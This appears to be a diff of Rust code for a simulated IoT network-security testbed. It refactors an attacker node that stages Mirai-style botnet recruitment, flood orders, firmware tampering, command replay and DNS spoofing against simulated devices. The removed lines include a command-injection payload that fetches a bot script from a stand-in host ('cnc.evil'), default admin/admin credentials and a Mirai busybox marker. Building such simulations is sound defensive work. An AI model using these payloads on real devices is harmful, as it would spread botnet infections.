@@ -33,10 +33,13 @@ use std::fmt;
 use std::panic::{catch_unwind, AssertUnwindSafe};
 use std::rc::Rc;
 use std::time::Instant;
+use xlf_attacks::mirai::{recruit_login, CNC_SIGNATURES};
 use xlf_attacks::observer::TrafficAnalyst;
 use xlf_core::framework::{HomeProbe, HomeReport, HomeRunner, XlfHome, VENDOR_DNS_NAME};
 use xlf_simnet::observer::PacketRecord;
-use xlf_simnet::{Context, Duration, FaultPlan, Medium, Node, NodeId, Packet, SimTime, TimerId};
+use xlf_simnet::{
+    Context, Duration, FaultPlan, Kind, Medium, Node, NodeId, Packet, SimTime, TimerId,
+};
 use xlf_stream::{WindowBuffer, WindowSummary, STREAM_FEATURES};
 
 /// A home that could not be built. Workers ship this to the aggregator
@@ -81,28 +84,17 @@ impl Node for FleetAttacker {
     fn on_timer(&mut self, ctx: &mut Context<'_>, _timer: TimerId, tag: u64) {
         match (tag, self.attack) {
             (TIMER_GO, FleetAttack::BotnetRecruit) => {
-                let login = Packet::new(
-                    ctx.id(),
-                    self.gateway,
-                    "login",
-                    b"wget${IFS}http://cnc.evil/bot.sh".to_vec(),
-                )
-                .with_meta("device", "cam")
-                .with_meta("user", "admin")
-                .with_meta("pass", "admin");
+                let login = recruit_login(ctx.id(), self.gateway, "cam");
                 ctx.send(self.gateway, login);
                 ctx.set_timer(Duration::from_secs(20), TIMER_FLOOD_ORDER);
             }
             (TIMER_FLOOD_ORDER, FleetAttack::BotnetRecruit) => {
-                let order = Packet::new(
-                    ctx.id(),
-                    self.gateway,
-                    "attack-cmd",
-                    b"/bin/busybox MIRAI".to_vec(),
-                )
-                .with_meta("device", "cam")
-                .with_meta("target", &self.victim_sink.raw().to_string())
-                .with_meta("count", "300");
+                let kind = Kind::AttackCmd {
+                    target: self.victim_sink,
+                    count: 300,
+                };
+                let order = Packet::new(ctx.id(), self.gateway, kind, CNC_SIGNATURES[1].to_vec())
+                    .with_device("cam");
                 ctx.send(self.gateway, order);
             }
             (TIMER_GO, FleetAttack::FirmwareTamper) => {
@@ -112,8 +104,8 @@ impl Node for FleetAttacker {
                     b"BOTNET implant".to_vec(),
                 );
                 for i in 0..3u64 {
-                    let ota = Packet::new(ctx.id(), self.gateway, "ota", image.to_bytes())
-                        .with_meta("device", "cam");
+                    let ota = Packet::new(ctx.id(), self.gateway, Kind::Ota, image.to_bytes())
+                        .with_device("cam");
                     ctx.send_after(self.gateway, ota, Duration::from_secs(i));
                 }
             }
@@ -122,9 +114,12 @@ impl Node for FleetAttacker {
                 // at the actuator long after its triggering event: app
                 // verification has no witnessed cause and denies each one.
                 for i in 0..20u64 {
-                    let cmd = Packet::new(ctx.id(), self.gateway, "cmd", b"on".to_vec())
-                        .with_meta("device", "window")
-                        .with_meta("command", "on");
+                    let kind = Kind::Cmd {
+                        action: None,
+                        command: Some("on".to_string()),
+                    };
+                    let cmd = Packet::new(ctx.id(), self.gateway, kind, b"on".to_vec())
+                        .with_device("window");
                     ctx.send_after(self.gateway, cmd, Duration::from_secs(i));
                 }
             }
@@ -133,17 +128,13 @@ impl Node for FleetAttacker {
                 // resolver's txids, so every guess misses and the
                 // hardened resolver reports each rejection.
                 for i in 0..30u64 {
-                    let txid = 40_000 + 17 * i;
-                    let spoof = Packet::new(
-                        ctx.id(),
-                        self.gateway,
-                        "dns-response",
-                        b"A 6.6.6.6".to_vec(),
-                    )
-                    .with_meta("device", "cam")
-                    .with_meta("name", VENDOR_DNS_NAME)
-                    .with_meta("value", "n666")
-                    .with_meta("txid", &txid.to_string());
+                    let kind = Kind::DnsResponse {
+                        name: VENDOR_DNS_NAME.to_string(),
+                        value: "n666".to_string(),
+                        txid: 40_000 + 17 * i as u16,
+                    };
+                    let spoof = Packet::new(ctx.id(), self.gateway, kind, b"A 6.6.6.6".to_vec())
+                        .with_device("cam");
                     ctx.send_after(self.gateway, spoof, Duration::from_secs(i));
                 }
             }
